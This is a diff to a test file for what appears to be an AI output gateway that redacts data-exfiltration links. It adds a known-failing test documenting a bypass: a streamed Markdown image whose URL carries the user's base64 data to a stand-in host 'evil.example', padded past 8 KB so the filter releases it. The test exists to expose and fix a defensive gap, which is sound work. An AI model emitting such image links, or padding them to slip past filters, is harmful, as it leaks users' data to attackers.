@@ -5,7 +5,7 @@
  */
 import OpenAI from "openai";
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
-import { chatCompletion, reply } from "../support/mock-upstream.js";
+import { chatChunks, chatCompletion, reply } from "../support/mock-upstream.js";
 import { type Harness, startDefaultPolicyGateway } from "./acceptance-support.js";
 
 /** The user's data, base64 in the query, as an injected instruction would have the model write it. */
@@ -50,5 +50,21 @@ describe("SVG 2 references", () => {
   // (was relayed: only `xlink:href` counted).
   it("SVG <image href>", async () => {
     expect(await answer(`<svg><image href="${URL}"/></svg>`)).not.toContain("evil.example");
+  });
+});
+
+describe("a sink longer than the stream's look-back", () => {
+  // Gap: a stream holds an unfinished image sink back only within 8 KB of its start (src/detect/exfil/find-url-sinks.ts
+  // PENDING_REACH); past that the URL is released as it comes and the finished image is never redacted, while the
+  // same answer not streamed is. Padding the query past 8 KB is all it takes (browsers load far longer URLs): the
+  // sink should stay held up to the enforcer's maxHold, and be cut (or the stream stopped) beyond it.
+  it.fails("a streamed Markdown image whose URL is padded past 8 KB", async () => {
+    const long = `${URL}&pad=${"A".repeat(9_000)}`;
+    const text = `Done. ![s](${long}) Bye.`;
+    expect(await answer(`![s](${long})`)).not.toContain("evil.example");
+    h.mock.use(reply.sse(chatChunks(text.match(/[\s\S]{1,200}/g) ?? [])));
+    let got = "";
+    for await (const c of await openai.chat.completions.create({ model: "gpt-4o-mini", messages: [{ role: "user", content: "Summarise my notes." }], stream: true })) got += c.choices[0]?.delta.content ?? "";
+    expect(got).not.toContain("evil.example");
   });
 });
